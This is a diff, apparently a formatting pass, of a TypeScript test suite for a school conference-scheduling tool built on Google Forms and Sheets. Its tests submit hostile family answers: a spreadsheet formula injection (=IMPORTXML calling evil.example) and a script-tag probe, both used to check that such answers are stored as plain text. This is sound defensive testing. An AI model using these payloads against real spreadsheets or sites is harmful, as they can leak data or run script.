@@ -9,7 +9,8 @@ import type { JobProgress, Overview, Result, Settings } from '../../src/shared/a
 
 type School = ReturnType<typeof openSchool>;
 
-const WHO = 'Who will come? (Another trusted adult, such as a grandparent, may come in your place.)';
+const WHO =
+  'Who will come? (Another trusted adult, such as a grandparent, may come in your place.)';
 const TIMES = 'Which times suit you?';
 const Q = {
   rating: 'How did the conference go?',
@@ -23,7 +24,11 @@ const Q = {
 const HOSTILE = '=IMPORTXML("https://evil.example","//a")';
 
 interface FormsState {
-  availability: { formId: string; linkTemplate: string; choices: { label: string; date: string; start: number; end: number }[] };
+  availability: {
+    formId: string;
+    linkTemplate: string;
+    choices: { label: string; date: string; start: number; end: number }[];
+  };
   questionnaires: Record<string, { formId: string }>;
 }
 
@@ -35,23 +40,39 @@ function formsState(s: School): FormsState {
 function familyLinks(s: School): Map<string, string> {
   const template = formsState(s).availability.linkTemplate;
   const out = new Map<string, string>();
-  for (const [k, code] of props(s)) if (k.startsWith('slc:family-code:')) out.set(k.slice('slc:family-code:'.length), template.replace('0000000000000000000000000000c0de', code));
+  for (const [k, code] of props(s))
+    if (k.startsWith('slc:family-code:'))
+      out.set(
+        k.slice('slc:family-code:'.length),
+        template.replace('0000000000000000000000000000c0de', code),
+      );
   return out;
 }
 
 function rows(s: School, sheet: string): Record<string, unknown>[] {
   const [header, ...body] = s.emulator.spreadsheet.sheetByName(sheet)!.values();
-  return body.filter((r) => r.some((v) => v !== '')).map((r) => Object.fromEntries(header!.map((h, i) => [String(h), r[i]])));
+  return body
+    .filter((r) => r.some((v) => v !== ''))
+    .map((r) => Object.fromEntries(header!.map((h, i) => [String(h), r[i]])));
 }
 
 /** A Schedule row's day and start, as the school's clock reads them. */
 function when(row: Record<string, unknown>): { date: string; start: number } {
-  const wall = (d: unknown, o: Intl.DateTimeFormatOptions) => new Intl.DateTimeFormat('en-CA', { timeZone: 'America/New_York', ...o }).format(d as Date);
-  const [h, m] = wall(row.Start, { hour: '2-digit', minute: '2-digit', hourCycle: 'h23' }).split(':').map(Number);
-  return { date: wall(row.Date, { year: 'numeric', month: '2-digit', day: '2-digit' }), start: h! * 60 + m! };
+  const wall = (d: unknown, o: Intl.DateTimeFormatOptions) =>
+    new Intl.DateTimeFormat('en-CA', { timeZone: 'America/New_York', ...o }).format(d as Date);
+  const [h, m] = wall(row.Start, { hour: '2-digit', minute: '2-digit', hourCycle: 'h23' })
+    .split(':')
+    .map(Number);
+  return {
+    date: wall(row.Date, { year: 'numeric', month: '2-digit', day: '2-digit' }),
+    start: h! * 60 + m!,
+  };
 }
 
-function within(row: Record<string, unknown>, choice: { date: string; start: number; end: number }): boolean {
+function within(
+  row: Record<string, unknown>,
+  choice: { date: string; start: number; end: number },
+): boolean {
   const w = when(row);
   return w.date === choice.date && w.start >= choice.start && w.start < choice.end;
 }
@@ -84,10 +105,19 @@ describe('the forms job', () => {
     run(s, 'forms');
     run(s, 'forms');
     expect(s.emulator.forms.forms()).toHaveLength(2);
-    expect(s.emulator.triggers.triggers.filter((t) => t.event === 'ON_FORM_SUBMIT')).toHaveLength(1);
-    expect(s.emulator.spreadsheet.sheets.filter((x) => x.name.startsWith('Form Responses'))).toHaveLength(2);
+    expect(s.emulator.triggers.triggers.filter((t) => t.event === 'ON_FORM_SUBMIT')).toHaveLength(
+      1,
+    );
+    expect(
+      s.emulator.spreadsheet.sheets.filter((x) => x.name.startsWith('Form Responses')),
+    ).toHaveLength(2);
     // Families never see a summary of other families' answers; they may edit their own.
-    for (const f of s.emulator.forms.forms()) expect(f).toMatchObject({ publishingSummary: false, allowResponseEdits: true, collectEmail: false });
+    for (const f of s.emulator.forms.forms())
+      expect(f).toMatchObject({
+        publishingSummary: false,
+        allowResponseEdits: true,
+        collectEmail: false,
+      });
   });
 
   it('offers the teachers’ windows and gives every family a link carrying only its own unguessable code', () => {
@@ -104,7 +134,9 @@ describe('the forms job', () => {
     }
     expect(new Set(codes.map((p) => [...p.values()].join())).size).toBe(links.size);
     const form = s.emulator.forms.get(formsState(s).availability.formId)!;
-    expect(form.items.find((i) => i.title === TIMES)!.rows).toEqual(formsState(s).availability.choices.map((c) => c.label));
+    expect(form.items.find((i) => i.title === TIMES)!.rows).toEqual(
+      formsState(s).availability.choices.map((c) => c.label),
+    );
   });
 
   it('cut off at any service call, a second run completes with one linked form each, one response sheet each and one trigger', () => {
@@ -118,10 +150,15 @@ describe('the forms job', () => {
       expect(() => s.bundle.callFromClient('runJob', ['forms'])).toThrow();
       run(s, 'forms');
       const linked = s.emulator.forms.forms().filter((f) => f.destination);
-      expect(linked.map((f) => f.title.replace(/.*: /, '')).sort()).toEqual(['how did the Fall conference go?', 'when can you come to the student-led conference?']);
+      expect(linked.map((f) => f.title.replace(/.*: /, '')).sort()).toEqual([
+        'how did the Fall conference go?',
+        'when can you come to the student-led conference?',
+      ]);
       // Apps Script has no transaction: cut between FormApp.create and saving its id, that form is left empty and unlinked.
       expect(s.emulator.forms.forms().length).toBeLessThanOrEqual(3);
-      expect(s.emulator.spreadsheet.sheets.filter((x) => x.name.startsWith('Form Responses'))).toHaveLength(2);
+      expect(
+        s.emulator.spreadsheet.sheets.filter((x) => x.name.startsWith('Form Responses')),
+      ).toHaveLength(2);
       expect(s.emulator.triggers.triggers).toHaveLength(1);
       expect(familyLinks(s).size).toBe(familyLinks(probe).size);
     }
@@ -130,13 +167,19 @@ describe('the forms job', () => {
   it('a passing Google error when opening a form stops the run; it never makes a second form', () => {
     const s = school();
     run(s, 'forms');
-    s.emulator.ws.injectFault({ method: 'FormApp.openById', kind: 'throw', message: 'Service error: Forms' });
+    s.emulator.ws.injectFault({
+      method: 'FormApp.openById',
+      kind: 'throw',
+      message: 'Service error: Forms',
+    });
     const failed = s.bundle.callFromClient('runJob', ['forms']) as Result<JobProgress>;
     expect(failed.ok).toBe(false);
     if (!failed.ok) expect(failed.error.message).toContain('Service error: Forms');
     run(s, 'forms');
     expect(s.emulator.forms.forms()).toHaveLength(2);
-    expect(s.emulator.spreadsheet.sheets.filter((x) => x.name.startsWith('Form Responses'))).toHaveLength(2);
+    expect(
+      s.emulator.spreadsheet.sheets.filter((x) => x.name.startsWith('Form Responses')),
+    ).toHaveLength(2);
   });
 
   it('a form deleted in Drive is made again, once', () => {
@@ -161,19 +204,33 @@ describe('the forms job', () => {
     expect(done.message).toContain('Created the availability form.');
     expect(done.message).toContain('Created the Fall questionnaire.');
     expect(s.emulator.forms.forms()).toHaveLength(2);
-    expect(s.emulator.triggers.triggers.filter((t) => t.event === 'ON_FORM_SUBMIT')).toHaveLength(1);
+    expect(s.emulator.triggers.triggers.filter((t) => t.event === 'ON_FORM_SUBMIT')).toHaveLength(
+      1,
+    );
   });
 
   it('offers the times the Teachers sheet has now when run again, on the same form', () => {
     const s = school();
     run(s, 'forms');
     const before = formsState(s).availability;
-    s.emulator.spreadsheet.sheetByName('Teachers')!.appendRow(['Ms. Rivera', 'rivera@lincoln.school.example', '2026-11-24', '7:00 AM', '8:00 AM', '12', 1]);
+    s.emulator.spreadsheet
+      .sheetByName('Teachers')!
+      .appendRow([
+        'Ms. Rivera',
+        'rivera@lincoln.school.example',
+        '2026-11-24',
+        '7:00 AM',
+        '8:00 AM',
+        '12',
+        1,
+      ]);
     run(s, 'forms');
     const after = formsState(s).availability;
     expect(after.formId).toBe(before.formId);
     expect(after.choices.map((c) => c.label)).toContain('Tue 2026-11-24, 7:00 AM – 8:00 AM');
-    expect(s.emulator.forms.get(after.formId)!.items.find((i) => i.title === TIMES)!.rows).toEqual(after.choices.map((c) => c.label));
+    expect(s.emulator.forms.get(after.formId)!.items.find((i) => i.title === TIMES)!.rows).toEqual(
+      after.choices.map((c) => c.label),
+    );
   });
 
   it('refuses with the sheet to fix when there are no teacher windows', () => {
@@ -195,7 +252,12 @@ describe('an availability answer', () => {
     run(s, 'forms');
     const [familyId] = familyLinks(s).keys();
     const [first, second] = formsState(s).availability.choices;
-    answer(s, familyId!, { [`${TIMES} [${second!.label}]`]: '1st choice', [`${TIMES} [${first!.label}]`]: '2nd choice', [WHO]: HOSTILE, 'Would you like an interpreter at the conference?': 'Yes' });
+    answer(s, familyId!, {
+      [`${TIMES} [${second!.label}]`]: '1st choice',
+      [`${TIMES} [${first!.label}]`]: '2nd choice',
+      [WHO]: HOSTILE,
+      'Would you like an interpreter at the conference?': 'Yes',
+    });
     expect(s.emulator.triggers.firings.at(-1)!.error).toBeUndefined();
     const mine = rows(s, 'Availability').filter((r) => r['Family ID'] === familyId);
     expect(mine.map((r) => r.Rank)).toEqual([1, 2]);
@@ -211,8 +273,15 @@ describe('an availability answer', () => {
     run(s, 'forms');
     const [familyId] = familyLinks(s).keys();
     const [first, second] = formsState(s).availability.choices;
-    const id = answer(s, familyId!, { [`${TIMES} [${first!.label}]`]: '1st choice', [`${TIMES} [${second!.label}]`]: '2nd choice' });
-    s.emulator.forms.submit(formsState(s).availability.formId, { [`${TIMES} [${first!.label}]`]: '', [WHO]: 'Grandpa Joe' }, { editOf: id });
+    const id = answer(s, familyId!, {
+      [`${TIMES} [${first!.label}]`]: '1st choice',
+      [`${TIMES} [${second!.label}]`]: '2nd choice',
+    });
+    s.emulator.forms.submit(
+      formsState(s).availability.formId,
+      { [`${TIMES} [${first!.label}]`]: '', [WHO]: 'Grandpa Joe' },
+      { editOf: id },
+    );
     const mine = rows(s, 'Availability').filter((r) => r['Family ID'] === familyId);
     expect(mine).toHaveLength(1);
     expect(mine[0]).toMatchObject({ Rank: 2, Date: expect.any(Date), 'Who Comes': 'Grandpa Joe' });
@@ -222,7 +291,9 @@ describe('an availability answer', () => {
     const s = school();
     run(s, 'forms');
     const link = [...familyLinks(s).values()][0]!.replace(/=[0-9a-f]{32}/, `=${'f'.repeat(32)}`);
-    s.emulator.forms.submitPrefilled(link, { [`${TIMES} [${formsState(s).availability.choices[0]!.label}]`]: '1st choice' });
+    s.emulator.forms.submitPrefilled(link, {
+      [`${TIMES} [${formsState(s).availability.choices[0]!.label}]`]: '1st choice',
+    });
     const written = rows(s, 'Availability');
     expect(written).toHaveLength(1);
     expect(written[0]!['Family ID']).toBe('');
@@ -253,10 +324,13 @@ describe('an availability answer', () => {
     const families = [...familyLinks(s).keys()];
     const choices = formsState(s).availability.choices;
     const chosen = choices[choices.length - 1]!;
-    for (const f of families.slice(0, 3)) answer(s, f, { [`${TIMES} [${chosen.label}]`]: '1st choice' });
+    for (const f of families.slice(0, 3))
+      answer(s, f, { [`${TIMES} [${chosen.label}]`]: '1st choice' });
     expect(rows(s, 'Schedule')).toHaveLength(0);
     run(s, 'schedule');
-    const placed = rows(s, 'Schedule').filter((r) => families.slice(0, 3).includes(String(r['Family ID'])));
+    const placed = rows(s, 'Schedule').filter((r) =>
+      families.slice(0, 3).includes(String(r['Family ID'])),
+    );
     expect(placed.length).toBeGreaterThanOrEqual(3);
     for (const r of placed) expect(within(r, chosen)).toBe(true);
   });
@@ -265,7 +339,11 @@ describe('an availability answer', () => {
     const s = school();
     run(s, 'forms');
     const [familyId] = familyLinks(s).keys();
-    answer(s, familyId!, { [`${TIMES} [${formsState(s).availability.choices[0]!.label}]`]: '1st choice', 'Which language would you like us to use?': 'Vietnamese', 'Would you like an interpreter at the conference?': 'Yes' });
+    answer(s, familyId!, {
+      [`${TIMES} [${formsState(s).availability.choices[0]!.label}]`]: '1st choice',
+      'Which language would you like us to use?': 'Vietnamese',
+      'Would you like an interpreter at the conference?': 'Yes',
+    });
     run(s, 'schedule');
     const mine = rows(s, 'Schedule').filter((r) => r['Family ID'] === familyId);
     expect(mine.length).toBeGreaterThan(0);
@@ -287,11 +365,17 @@ describe('an availability answer', () => {
     expect(rows(s, 'Availability').map((r) => r['Family ID'])).toEqual([a]);
     s.emulator.locks.holdForAnother(key, s.emulator.ws.clock.now() + 600_000);
     answer(s, b!, { [label]: '1st choice' });
-    expect(s.emulator.triggers.firings.at(-1)!.error).toMatch(/recording a family’s form answers|changing this spreadsheet/);
+    expect(s.emulator.triggers.firings.at(-1)!.error).toMatch(
+      /recording a family’s form answers|changing this spreadsheet/,
+    );
     expect(rows(s, 'Availability').map((r) => r['Family ID'])).toEqual([a]);
     s.emulator.locks.held.delete(key);
     answer(s, c!, { [label]: '1st choice' });
-    expect(rows(s, 'Availability').map((r) => r['Family ID']).sort()).toEqual([a, b, c].sort());
+    expect(
+      rows(s, 'Availability')
+        .map((r) => r['Family ID'])
+        .sort(),
+    ).toEqual([a, b, c].sort());
   });
 
   it('cut off in its trigger, is recorded when the coordinator next rebuilds the Summary', () => {
@@ -335,8 +419,14 @@ describe('the questionnaire', () => {
     const s = afterConferences(60);
     run(s, 'questionnaire');
     const schedule = rows(s, 'Schedule');
-    const spanish = s.emulator.mail.sent.filter((m) => schedule.some((r) => r.Language === 'Spanish' && m.to.some((t) => String(r.Emails).includes(t))));
-    const english = s.emulator.mail.sent.filter((m) => schedule.some((r) => r.Language === '' && m.to.some((t) => String(r.Emails).includes(t))));
+    const spanish = s.emulator.mail.sent.filter((m) =>
+      schedule.some(
+        (r) => r.Language === 'Spanish' && m.to.some((t) => String(r.Emails).includes(t)),
+      ),
+    );
+    const english = s.emulator.mail.sent.filter((m) =>
+      schedule.some((r) => r.Language === '' && m.to.some((t) => String(r.Emails).includes(t))),
+    );
     expect(spanish.length).toBeGreaterThan(0);
     for (const m of spanish) expect(m.subject).toMatch(/^¿Cómo fue la conferencia/);
     for (const m of english) expect(m.subject).toMatch(/^How did the conference/);
@@ -345,7 +435,11 @@ describe('the questionnaire', () => {
   it('stops at Google’s daily email limit and finishes the next day, each family once', () => {
     const s = afterConferences();
     const quota = s.emulator.ws.quota;
-    quota.take('mailRecipientsPerDay', quota.remaining('mailRecipientsPerDay') - 4, 'used by something else');
+    quota.take(
+      'mailRecipientsPerDay',
+      quota.remaining('mailRecipientsPerDay') - 4,
+      'used by something else',
+    );
     const first = run(s, 'questionnaire');
     expect(first.message).toContain('daily email limit');
     const today = s.emulator.mail.sent.length;
@@ -381,36 +475,64 @@ describe('the questionnaire', () => {
     const s = afterConferences();
     const conf = rows(s, 'Schedule')[0]!;
     const long = 'x'.repeat(20_000);
-    s.emulator.forms.submitPrefilled(String(conf['Feedback Link']), { [Q.rating]: '4', [Q.goal]: '<script>alert(1)</script>', [Q.help]: HOSTILE, [Q.followUp]: 'Yes', [Q.when]: '+1 Tuesday 3:30 PM', [Q.comments]: long });
+    s.emulator.forms.submitPrefilled(String(conf['Feedback Link']), {
+      [Q.rating]: '4',
+      [Q.goal]: '<script>alert(1)</script>',
+      [Q.help]: HOSTILE,
+      [Q.followUp]: 'Yes',
+      [Q.when]: '+1 Tuesday 3:30 PM',
+      [Q.comments]: long,
+    });
     const trigger = s.emulator.ws.reports.at(-1)!;
     expect(trigger.entry).toContain('onFormSubmit');
     // Each sheet read once (both response sheets, Feedback, Schedule, Roster); Feedback and Summary written once each.
     expect(trigger.callsByMethod['SpreadsheetApp.Range.getValues']).toBeLessThanOrEqual(5);
     expect(trigger.callsByMethod['SpreadsheetApp.Range.setValues']).toBe(2);
     const [fb] = rows(s, 'Feedback');
-    expect(fb).toMatchObject({ 'Conference ID': conf['Conference ID'], Teacher: conf.Teacher, Rating: 4, Goal: '<script>alert(1)</script>', 'How We Help': HOSTILE, 'Follow-up': 'Yes', 'Follow-up When': '+1 Tuesday 3:30 PM', Flag: '' });
+    expect(fb).toMatchObject({
+      'Conference ID': conf['Conference ID'],
+      Teacher: conf.Teacher,
+      Rating: 4,
+      Goal: '<script>alert(1)</script>',
+      'How We Help': HOSTILE,
+      'Follow-up': 'Yes',
+      'Follow-up When': '+1 Tuesday 3:30 PM',
+      Flag: '',
+    });
     expect(String(fb!.Comments).length).toBeLessThanOrEqual(5000);
     const summary = s.emulator.spreadsheet.sheetByName('Summary')!;
     const grid = summary.values();
     const follow = grid.findIndex((r) => r[0] === 'Follow-up requests');
-    expect(grid[follow + 2]!.slice(0, 3)).toEqual([conf.Family, conf.Teacher, '+1 Tuesday 3:30 PM']);
+    expect(grid[follow + 2]!.slice(0, 3)).toEqual([
+      conf.Family,
+      conf.Teacher,
+      '+1 Tuesday 3:30 PM',
+    ]);
     expect(grid.flat()).toContain(HOSTILE);
     expect(summary.rows.flat().filter((c) => c?.f !== undefined)).toEqual([]);
-    expect(summary.charts.map((c) => c.options.title)).toEqual(['Participation per teacher', 'Average rating per teacher (1–5)']);
+    expect(summary.charts.map((c) => c.options.title)).toEqual([
+      'Participation per teacher',
+      'Average rating per teacher (1–5)',
+    ]);
   });
 
   it('flags a code that is unknown or of another round’s conference, and does not count it', () => {
     const s = afterConferences();
     const conf = rows(s, 'Schedule')[0]!;
     const link = String(conf['Feedback Link']);
-    s.emulator.forms.submitPrefilled(link.replace(/=[0-9a-f]{32}/, `=${'0'.repeat(32)}`), { [Q.rating]: '1' });
+    s.emulator.forms.submitPrefilled(link.replace(/=[0-9a-f]{32}/, `=${'0'.repeat(32)}`), {
+      [Q.rating]: '1',
+    });
     setSettings(s, { roundName: 'Spring' });
     run(s, 'forms');
     const spring = s.emulator.forms.get(formsState(s).questionnaires.Spring!.formId)!;
     const code = /=([0-9a-f]{32})/.exec(link)![1]!;
     s.emulator.forms.submit(spring.id, { [Q.code]: code, [Q.rating]: '1' });
     const flags = rows(s, 'Feedback').map((r) => String(r.Flag));
-    expect(flags).toEqual([expect.stringMatching(/Unknown conference code/), expect.stringMatching(/Fall conference, answered on the Spring questionnaire/)]);
+    expect(flags).toEqual([
+      expect.stringMatching(/Unknown conference code/),
+      expect.stringMatching(/Fall conference, answered on the Spring questionnaire/),
+    ]);
     setSettings(s, { roundName: 'Fall' });
     run(s, 'summary');
     const grid = s.emulator.spreadsheet.sheetByName('Summary')!.values();
@@ -428,7 +550,9 @@ describe('the questionnaire', () => {
     expect(rows(s, 'Feedback').map((r) => r.Rating)).toEqual([2, 5]);
     const teacherRow = () => {
       const grid = s.emulator.spreadsheet.sheetByName('Summary')!.values();
-      return grid.find((r, i) => i > grid.findIndex((x) => x[0] === 'Per teacher') && r[0] === conf.Teacher)!;
+      return grid.find(
+        (r, i) => i > grid.findIndex((x) => x[0] === 'Per teacher') && r[0] === conf.Teacher,
+      )!;
     };
     expect(teacherRow()[7]).toBe(5);
     const form = formsState(s).questionnaires.Fall!.formId;
@@ -462,9 +586,16 @@ describe('the summary', () => {
     run(s, 'summary');
     const o = ok<Overview>(s.bundle.callFromClient('getOverview', []));
     const summary = o.steps.find((x) => x.id === 'summary')!;
-    expect(summary.counts).toEqual(expect.arrayContaining([{ label: 'attended', value: 1 }, { label: 'no-show', value: 1 }]));
+    expect(summary.counts).toEqual(
+      expect.arrayContaining([
+        { label: 'attended', value: 1 },
+        { label: 'no-show', value: 1 },
+      ]),
+    );
     const questionnaire = o.steps.find((x) => x.id === 'questionnaire')!;
-    expect(questionnaire.problems.find((p) => /did not come/.test(p.message))).toMatchObject({ where: { sheet: 'Schedule', row: 3, column: status } });
+    expect(questionnaire.problems.find((p) => /did not come/.test(p.message))).toMatchObject({
+      where: { sheet: 'Schedule', row: 3, column: status },
+    });
   });
 });
 
@@ -477,12 +608,21 @@ describe('the Questionnaire step', () => {
     const header = sheet.values()[0]!;
     const conf = rows(s, 'Schedule')[0]!;
     sheet.put(2, header.indexOf('Status') + 1, { v: 'invited' });
-    const other = formsState(s).availability.choices.find((c) => c.date !== (conf.Date as Date).toISOString().slice(0, 10))!;
-    s.emulator.forms.submitPrefilled(familyLinks(s).get(String(conf['Family ID']))!, { [`${TIMES} [${other.label}]`]: '1st choice' });
-    const step = ok<Overview>(s.bundle.callFromClient('getOverview', [])).steps.find((x) => x.id === 'questionnaire')!;
+    const other = formsState(s).availability.choices.find(
+      (c) => c.date !== (conf.Date as Date).toISOString().slice(0, 10),
+    )!;
+    s.emulator.forms.submitPrefilled(familyLinks(s).get(String(conf['Family ID']))!, {
+      [`${TIMES} [${other.label}]`]: '1st choice',
+    });
+    const step = ok<Overview>(s.bundle.callFromClient('getOverview', [])).steps.find(
+      (x) => x.id === 'questionnaire',
+    )!;
     expect(step.status).toBe('attention');
     expect(step.counts).toContainEqual({ label: 'change requests', value: 1 });
-    expect(step.problems[0]).toMatchObject({ where: { sheet: 'Schedule', row: 2 }, message: expect.stringContaining('asks for another time') });
+    expect(step.problems[0]).toMatchObject({
+      where: { sheet: 'Schedule', row: 2 },
+      message: expect.stringContaining('asks for another time'),
+    });
   });
 
   it('is read with one read of each sheet and no write', () => {
@@ -495,7 +635,10 @@ describe('the Questionnaire step', () => {
 
   it('offers to create the forms, then to send the questionnaire once conferences have passed', () => {
     const s = school();
-    const step = () => ok<Overview>(s.bundle.callFromClient('getOverview', [])).steps.find((x) => x.id === 'questionnaire')!;
+    const step = () =>
+      ok<Overview>(s.bundle.callFromClient('getOverview', [])).steps.find(
+        (x) => x.id === 'questionnaire',
+      )!;
     expect(step()).toMatchObject({ status: 'ready', action: { job: 'forms' } });
     run(s, 'schedule');
     run(s, 'forms');
@@ -508,10 +651,15 @@ describe('the Questionnaire step', () => {
 
   it('the Conference days step points to the availability form (made in the Questionnaire step) before the schedule is built', () => {
     const s = school();
-    const days = () => ok<Overview>(s.bundle.callFromClient('getOverview', [])).steps.find((x) => x.id === 'days')!;
-    expect(days().next).toContain('create the family forms and ask the families (step 7, Questionnaire)');
+    const days = () =>
+      ok<Overview>(s.bundle.callFromClient('getOverview', [])).steps.find((x) => x.id === 'days')!;
+    expect(days().next).toContain(
+      'create the family forms and ask the families (step 7, Questionnaire)',
+    );
     run(s, 'forms');
-    expect(days().next).toBe('Build the schedule next, or first ask the families when they can come (step 7, Questionnaire) and give them a few days.');
+    expect(days().next).toBe(
+      'Build the schedule next, or first ask the families when they can come (step 7, Questionnaire) and give them a few days.',
+    );
     run(s, 'ask');
     expect(days().next).toBe('Build the schedule next.');
   });
@@ -524,9 +672,18 @@ describe('the Questionnaire step', () => {
     run(s, 'schedule');
     s.emulator.ws.clock.set(Date.UTC(2026, 11, 1, 14, 0));
     const families = new Set(rows(s, 'Schedule').map((r) => r['Family ID'])).size;
-    const step = () => ok<Overview>(s.bundle.callFromClient('getOverview', [])).steps.find((x) => x.id === 'questionnaire')!;
-    expect(step()).toMatchObject({ status: 'ready', action: { job: 'questionnaire', label: `Send the questionnaire (${families})` } });
-    expect(step().counts).toContainEqual({ label: 'families due the questionnaire', value: families });
+    const step = () =>
+      ok<Overview>(s.bundle.callFromClient('getOverview', [])).steps.find(
+        (x) => x.id === 'questionnaire',
+      )!;
+    expect(step()).toMatchObject({
+      status: 'ready',
+      action: { job: 'questionnaire', label: `Send the questionnaire (${families})` },
+    });
+    expect(step().counts).toContainEqual({
+      label: 'families due the questionnaire',
+      value: families,
+    });
     expect(run(s, 'questionnaire').message).toBe(`Sent the questionnaire to ${families} families.`);
     expect(step()).toMatchObject({ status: 'done' });
   });
